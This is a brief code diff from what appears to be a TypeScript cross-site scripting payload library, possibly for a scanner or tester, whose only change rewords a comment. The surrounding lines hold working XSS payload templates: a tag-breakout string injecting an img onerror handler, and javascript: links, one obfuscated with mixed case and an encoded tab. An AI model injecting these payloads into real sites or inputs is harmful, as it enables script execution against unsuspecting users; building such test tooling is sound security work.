@@ -28,7 +28,7 @@ const TAGS: { readonly [name: string]: (run: string, host: string) => string } =
   titleEnd: (run) => `</title></textarea></style></noscript><img src=x onerror="${run}">`,
 }
 
-/** These need a sanitizer that parses twice, a click, or a template engine. Inserted as HTML, they do nothing. */
+/** Payloads that need a sanitizer that parses twice, a click, or a template engine. Inserted as HTML, they do nothing. */
 const DELAYED_PAYLOADS: { readonly [name: string]: (run: string, host: string) => string } = {
   link: (run) => `<a href="javascript:${run}">press</a>`,
   linkCase: (run) => `<a href=" JaVa&#x09;Script:${run}">press</a>`,
